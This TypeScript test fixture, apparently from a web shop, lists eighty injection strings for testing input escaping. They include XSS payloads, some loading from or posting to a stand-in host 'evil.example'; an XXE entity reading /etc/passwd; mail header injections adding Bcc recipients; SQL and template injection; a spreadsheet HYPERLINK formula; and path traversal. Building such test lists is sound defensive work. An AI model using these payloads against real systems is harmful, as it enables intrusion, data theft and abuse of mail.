/* What people write who want a shop to do something else: one list for all tests that send such texts. */

/** Where a text does harm that stands there as it was written, undisguised. */
export type Harm =
  /** Between tags; in an attribute with double, single or no quotes; as the address of a link. */
  | 'text'
  | 'double'
  | 'single'
  | 'bare'
  | 'address'
  /** Within an element or a comment whose end it writes. */
  | 'script'
  | 'style'
  | 'title'
  | 'textarea'
  | 'template'
  | 'comment'
  /** In a feed or site map; in its CDATA. */
  | 'xml'
  | 'cdata'
  /** In a line of a mail's head. */
  | 'header'
  /** In what is not HTML: SQL, templates, formats, tables, what eyes see. */
  | 'elsewhere';

export type Injection = {
  /** Stands in the text and in no other. */
  readonly mark: string;
  readonly text: string;
  readonly harm: Harm;
};

const evil = 'evil.example';

/** By the place of their harm, `¤` standing for its mark. */
const written: Readonly<Record<Harm, readonly string[]>> = {
  text: [
    "<script>alert('¤')</script>",
    `<SCRIPT SRC=https://${evil}/¤.js></SCRIPT>`,
    "<img src=x onerror=alert('¤')>",
    "<img/src='x'/onerror=alert(`¤`)>",
    `<img src="https://${evil}/¤.gif">`,
    "<svg onload=alert('¤')>",
    "<svg><script>alert('¤')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'¤\')"><text y="9">žlijeb</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) id=¤ />',
    `<svg><use href="https://${evil}/¤.svg#a"/></svg>`,
    '<math><mtext><mglyph><style><img src=x onerror=alert("¤")>',
    '<body onload=alert("¤")>',
    '<details open ontoggle=alert("¤")>Š</details>',
    '<input autofocus onfocus=alert("¤")>',
    `<iframe src="https://${evil}/¤"></iframe>`,
    '<iframe srcdoc="&lt;script&gt;alert(\'¤\')&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(\'¤\')</script>"></object>',
    `<embed src="//${evil}/¤.swf">`,
    `<base href="https://${evil}/¤/">`,
    `<meta http-equiv="refresh" content="0;url=https://${evil}/¤">`,
    `<link rel="stylesheet" href="https://${evil}/¤.css">`,
    `<style>@import "https://${evil}/\\¤.css"; /* ¤ */</style>`,
    `<form action="https://${evil}/¤"><button>Prijavi se</button></form>`,
    '<button formaction="javascript:alert(\'¤\')">Čč</button>',
    '<p style="background:url(javascript:alert(\'¤\'))">Đđ</p>',
    '<a href="JaVaScRiPt:alert(\'¤\')">Klikni</a>',
    '<a href="java&#x09;script:alert(\'¤\')">Klikni</a>',
    '<a href=\'&#106;avascript&colon;alert("¤")\'>Klikni</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=#¤">Klikni</a>',
    '<x-¤ onclick="alert(1)">Nepoznato</x-¤>',
    '<!-- ¤ --><b onmouseover=alert("¤")>Krov</b>',
    '<![CDATA[<script>alert("¤")</script>]]>',
  ],
  double: [
    `" onmouseover="alert('¤')`,
    `"><script>alert('¤')</script>`,
    `" autofocus onfocus=alert('¤') x="`,
    `"/><svg/onload=alert('¤')>`,
  ],
  single: [`' onmouseover='alert("¤")`, `'><img src=x onerror=alert("¤")>`],
  bare: ['x onmouseover=alert("¤")', 'x onfocus=alert(`¤`) autofocus'],
  address: [
    "javascript:alert('¤')",
    " \tjava\nscript:alert('¤')",
    "\u0001javascript:alert('¤')",
    'vbscript:msgbox("¤")',
    "data:text/html,<script>alert('¤')</script>",
    '&#106;&#97;vascript:alert(`¤`)',
    'javascript://attika.example/%0aalert("¤")',
  ],
  script: [
    '</script><script>alert("¤")</script>',
    '"}</script><img src=x onerror=alert("¤")>',
    '<!--<script>¤',
    '\u2028</script ><svg onload=alert("¤")>\u2029',
  ],
  style: ['</style><script>alert("¤")</script>'],
  title: ['</title><script>alert("¤")</script>'],
  textarea: ['</textarea><img src=x onerror=alert("¤")>'],
  template: ['</template><script>alert("¤")</script>', '</noscript><img src=x onerror=alert("¤")>'],
  comment: ['--><script>alert("¤")</script><!--', '--!><img src=x onerror=alert("¤")>'],
  xml: [
    '</title></item><item><title>¤</title>',
    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;¤</a>',
    '<![CDATA[ ¤',
  ],
  cdata: [']]><injected>¤</injected><![CDATA['],
  header: [
    `Krov\r\nBcc: ¤@${evil}`,
    `Krov\nBcc: ¤@${evil}`,
    `Krov\rX-Attika: ¤`,
    'Krov\r\n\r\n<p>¤</p>',
    `\u0000\r\nBcc: ¤@${evil}`,
    `Krov\u0085Bcc: ¤@${evil}`,
    `Krov\u2028Bcc: ¤@${evil}`,
    `, ¤@${evil}`,
    `Ana" <¤@${evil}>, "`,
  ],
  elsewhere: [
    // What would be left where a filter takes out what it knows, once.
    "<scr<script>ipt>alert('¤')</script>",
    "'; DROP TABLE product; -- ¤",
    "¤' OR '1'='1",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what others' templates would fill in
    '{{7*7}}${7*7}<%= 7*7 %>#{7*7} ¤',
    '{name, plural, one {¤} other {#',
    '=HYPERLINK("https://evil.example/¤";\'Š\')',
    'a\u202egnp.exe\u202c\u200b ¤',
    '%0d%0aBcc:%20¤%00../../etc/passwd',
    'null undefined NaN __proto__ ¤',
  ],
};

const kinds = Object.keys(written) as Harm[];

/** Eighty texts, each another. */
export const injections: readonly Injection[] = kinds
  .flatMap((harm) => written[harm].map((text) => ({ harm, text })))
  .map(({ harm, text }, index) => {
    const mark = `inj${String(index).padStart(2, '0')}`;
    return { mark, harm, text: text.replaceAll('¤', mark) };
  });

/** Those that do harm in one of these places. */
export function injectionsInto(...places: readonly Harm[]): readonly string[] {
  return injections.filter(({ harm }) => places.includes(harm)).map(({ text }) => text);
}

/** Some of different kinds, for tests that have no time for all. */
export const someInjections: readonly string[] = (['text', 'xml', 'header', 'elsewhere'] as const).flatMap(
  (harm) => injectionsInto(harm).slice(0, 1),
);

/** The text for a field in a round: over all rounds each field is given each text. */
export function injectionOf(round: number, field: number): Injection {
  return injections[(round + field) % injections.length] as Injection;
}
